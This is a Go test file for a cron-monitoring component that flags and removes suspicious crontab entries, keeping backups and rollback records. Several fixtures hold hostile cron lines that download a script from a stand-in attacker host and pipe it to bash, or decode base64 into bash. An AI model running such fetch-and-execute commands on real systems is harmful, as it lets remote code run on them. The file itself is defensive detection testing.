package cronwatch

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sentryd/sentryd/internal/model"
)

type fakeRollbackWriter struct {
	saved []model.RollbackManifest
}

func (f *fakeRollbackWriter) SaveRollback(m model.RollbackManifest) error {
	f.saved = append(f.saved, m)
	return nil
}

func TestIsSuspiciousBase64Pipe(t *testing.T) {
	content := `* * * * * root echo c2xlZXAgMTAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDA= | base64 -d | bash`
	suspicious, reason := isSuspicious(content)
	assert.True(t, suspicious)
	assert.NotEmpty(t, reason)
}

func TestIsSuspiciousCurlPipeBash(t *testing.T) {
	suspicious, _ := isSuspicious("*/5 * * * * curl http://evil.example/x.sh | bash")
	assert.True(t, suspicious)
}

func TestIsSuspiciousNpmInstallWithoutCi(t *testing.T) {
	suspicious, _ := isSuspicious("0 3 * * * cd /srv/app && npm install && npm run build")
	assert.True(t, suspicious)
}

func TestIsSuspiciousNpmCiIsClean(t *testing.T) {
	suspicious, _ := isSuspicious("0 3 * * * cd /srv/app && npm ci && npm run build")
	assert.False(t, suspicious)
}

func TestIsSuspiciousOrdinaryEntryIsClean(t *testing.T) {
	suspicious, _ := isSuspicious("0 2 * * * root /usr/bin/logrotate /etc/logrotate.conf")
	assert.False(t, suspicious)
}

func TestRemoveSuspiciousBacksUpAndRewrites(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "x")
	original := "0 2 * * * root /usr/bin/logrotate /etc/logrotate.conf\n" +
		"* * * * * root curl http://evil.example/x.sh | bash\n"
	require.NoError(t, os.WriteFile(path, []byte(original), 0644))

	rw := &fakeRollbackWriter{}
	w := New(rw, t.TempDir(), []byte("test-key-0123456789"))

	snap, err := w.RemoveSuspicious(path)
	require.NoError(t, err)
	assert.True(t, snap.Suspicious)
	require.Len(t, rw.saved, 1)
	assert.Equal(t, model.RestoreCron, rw.saved[0].Actions[0].Kind)

	rewritten, err := os.ReadFile(path)
	require.NoError(t, err)
	assert.Contains(t, string(rewritten), "logrotate")
	assert.NotContains(t, string(rewritten), "curl")

	entries, err := os.ReadDir(dir)
	require.NoError(t, err)
	var sawBackup bool
	for _, e := range entries {
		if e.Name() != "x" {
			sawBackup = true
		}
	}
	assert.True(t, sawBackup)
}

func TestRemoveSuspiciousKeepsMarkerWhenEmptied(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "x")
	original := "* * * * * root curl http://evil.example/x.sh | bash\n"
	require.NoError(t, os.WriteFile(path, []byte(original), 0644))

	rw := &fakeRollbackWriter{}
	w := New(rw, t.TempDir(), []byte("test-key-0123456789"))

	_, err := w.RemoveSuspicious(path)
	require.NoError(t, err)

	rewritten, err := os.ReadFile(path)
	require.NoError(t, err)
	assert.Contains(t, string(rewritten), "#")
}
